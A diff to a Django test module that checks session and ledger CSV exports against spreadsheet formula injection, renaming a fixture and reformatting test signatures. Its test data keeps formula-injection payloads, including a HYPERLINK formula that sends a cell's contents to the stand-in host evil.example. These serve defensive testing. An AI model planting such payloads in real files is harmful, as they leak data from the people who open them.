@@ -13,7 +13,6 @@ from events.services import register
 from figures.queries import FIGURES
 from portions import services
 from tests.factories import make_event
-from tests.portions.test_printing import cooked, people  # noqa: F401
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1;"Click")', "+32=1+1", "-1", "@x"]
 
@@ -55,22 +54,28 @@ def test_ordinary_text_and_numbers_are_written_as_they_are():
 # Each export ----------------------------------------------------------------------------------
 
 
-def test_names_typed_by_people_are_safe_in_the_session_csv(client_as, cooked, people):  # noqa: F811
+def test_names_typed_by_people_are_safe_in_the_session_csv(
+    client_as, worked_example_cooked, people
+):
     for key, name in zip(["ferhat", "sadika"], HOSTILE[:2], strict=True):
         people[key].person.display_name = name
         people[key].person.save(update_fields=["display_name"])
 
-    url = reverse("portions:session_csv", args=[cooked.group.slug, cooked.pk])
+    url = reverse(
+        "portions:session_csv", args=[worked_example_cooked.group.slug, worked_example_cooked.pk]
+    )
     rows = read_csv(client_as("referent").get(url))
 
     assert rows[2] == ["'" + HOSTILE[0], "4", "7,45", "0,00", "-7,45"]
     assert rows[3] == ["'" + HOSTILE[1], "14", "26,05", "21,15", "-4,90"]
 
 
-def test_names_typed_by_people_are_safe_in_the_ledger_csv(client_as, cooked, member, referent):  # noqa: F811
+def test_names_typed_by_people_are_safe_in_the_ledger_csv(
+    client_as, worked_example_cooked, member, referent
+):
     member.display_name = "@SUM(1+1)"
     member.save(update_fields=["display_name"])
-    services.settle(cooked, by=referent)
+    services.settle(worked_example_cooked, by=referent)
 
     rows = read_csv(client_as("referent").get(reverse("portions:ledger_csv", args=["ca-chauffe"])))
 
